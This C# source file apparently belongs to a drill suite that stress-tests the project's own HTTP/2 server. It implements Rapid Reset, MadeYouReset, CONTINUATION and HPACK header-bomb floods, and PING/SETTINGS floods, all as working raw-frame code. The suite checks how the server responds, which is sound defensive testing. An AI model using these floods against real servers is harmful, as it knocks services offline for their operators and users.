using DataHub.RawHttp2;

namespace DataHub.Drills.Hostile.Attacks;

/// <summary>CVE-2023-44487: streams begun and reset at once.</summary>
internal sealed class RapidReset() : Attack("G1", "rapid reset")
{
    private const int Connections = 20;
    private const int Chunk = 100;

    public override Task RunAsync(AttackField field) => Flood.RunAsync(field, Connections, field.Count(200_000), "streams begun and reset", (_, number) =>
    {
        var bytes = new List<byte>();
        for (var i = 0; i < Chunk; i++)
        {
            var stream = 2 * (number * Chunk + i) + 1;
            bytes.AddRange(Requests.HeadersFrame(Requests.Search, stream));
            bytes.AddRange(Frames.Frame(FrameType.RstStream, 0, stream, [0, 0, 0, 8]));
        }

        return ([.. bytes], Chunk);
    });
}

/// <summary>CVE-2025-8671: frames that make the server reset streams itself.</summary>
internal sealed class MadeYouReset() : Attack("G2", "\"MadeYouReset\"")
{
    private const int Connections = 20;
    private const int Chunk = 100;

    private static readonly Func<int, byte[]>[] Kinds =
    [
        stream => Frames.Frame(FrameType.WindowUpdate, 0, stream, [0, 0, 0, 0]),
        stream => Frames.Frame(FrameType.WindowUpdate, 0, stream, [0x7F, 0xFF, 0xFF, 0xFF]),
        stream => [.. Frames.Frame(FrameType.Data, Frames.EndStream, stream, Requests.Empty), .. Frames.Frame(FrameType.Data, 0, stream, [0])],
        stream => [.. Frames.Frame(FrameType.Data, Frames.EndStream, stream, Requests.Empty), .. Requests.HeadersFrame(Requests.Search, stream)],
        stream => Frames.Frame(FrameType.Priority, 0, stream, [(byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream, 1]),
        stream => Frames.Frame(FrameType.Priority, 0, stream, [0]),
    ];

    public override Task RunAsync(AttackField field) => Flood.RunAsync(field, Connections, field.Count(100_000), "streams to be reset by the hub", (attacker, number) =>
    {
        var bytes = new List<byte>();
        for (var i = 0; i < Chunk; i++)
        {
            var stream = 2 * (number * Chunk + i) + 1;
            bytes.AddRange(Requests.HeadersFrame(Requests.Search, stream));
            bytes.AddRange(Kinds[attacker % Kinds.Length](stream));
        }

        return ([.. bytes], Chunk);
    });
}

/// <summary>Headers without end, and headers that grow when they are unpacked.</summary>
internal sealed class HeaderBombs() : Attack("G3", "CONTINUATION flood and header bombs")
{
    private const int Connections = 15;
    private const int Chunk = 200;

    private static readonly byte[] Long = Hpack.Encode([("x-long", new string('x', 1_000))]);

    // A header of 3,000 bytes put into the dynamic table once (RFC 7541 §6.2.1), then named by its index.
    private static readonly byte[] Indexed = [0x40, 0x01, (byte)'b', 0x7F, 0xB9, 0x16, .. Enumerable.Repeat((byte)'x', 3_000), .. Enumerable.Repeat((byte)0xBE, 10_000)];

    public override async Task RunAsync(AttackField field)
    {
        await Flood.RunAsync(field, Connections, field.Count(60_000), "CONTINUATION frames", (attacker, number) =>
        {
            var part = (attacker % 3) switch { 0 => [], 1 => Long, _ => Indexed };
            var parts = Frames.Repeated(Frames.Frame(FrameType.Continuation, 0, 1, part), Chunk / (1 + attacker % 3 * 4));
            return (number == 0 ? [.. Requests.HeadersFrame(Requests.Search, 1, flags: 0), .. parts] : parts, Chunk);
        });
        await Parallel.ForAsync(0, field.Count(40, least: 4), field.Stop, async (i, _) => await SendTooMuchAsync(field, i));
    }

    private static async Task SendTooMuchAsync(AttackField field, int attacker)
    {
        (string, string)[] more = attacker % 2 == 0
            ? [.. Enumerable.Range(0, 41).Select(i => ($"x-{i}", "1"))]
            : [.. Enumerable.Range(0, 9).Select(i => ($"x-{i}", new string('x', 1_000)))];
        field.Tally.Sent(attacker % 2 == 0 ? "requests with 47 headers" : "requests with 9 kB of headers");
        try
        {
            await using var peer = await field.ConnectAsync(attacker);
            var reply = await peer.RequestAsync(1, Requests.Headers(Requests.Search, more), Requests.Found);
            await reply.Ended.WaitAsync(field.Stop);
            field.Tally.Answered(Answers.Of(reply), "a request with too much in its headers", "431", "closed", "reset 1", "reset 11");
        }
        catch (Exception e) when (AttackField.IsHangup(e))
        {
            field.Tally.Answered("connections closed");
        }
    }
}

/// <summary>PING, SETTINGS and other frames that ask and bring nothing.</summary>
internal sealed class IdleFrames() : Attack("G4", "PING and SETTINGS flood")
{
    private const int Connections = 20;
    private const int Chunk = 1_000;

    private static readonly byte[][] Kinds =
    [
        Frames.Repeated(Frames.Frame(FrameType.Ping, 0, 0, new byte[8]), Chunk),
        Frames.Repeated(Frames.Frame(FrameType.Settings, 0, 0, []), Chunk),
        Frames.Repeated(Frames.Frame(FrameType.Priority, 0, 1_001, [0, 0, 0, 0, 1]), Chunk),
        Frames.Repeated(Frames.Frame((FrameType)0xBE, 0, 0, [1, 2, 3]), Chunk),
    ];

    public override double? MostCpuAfter => 0.1;

    public override Task RunAsync(AttackField field) =>
        Flood.RunAsync(field, Connections, field.Count(200_000, least: Connections * Chunk), "frames", (attacker, _) => (Kinds[attacker % Kinds.Length], Chunk));
}
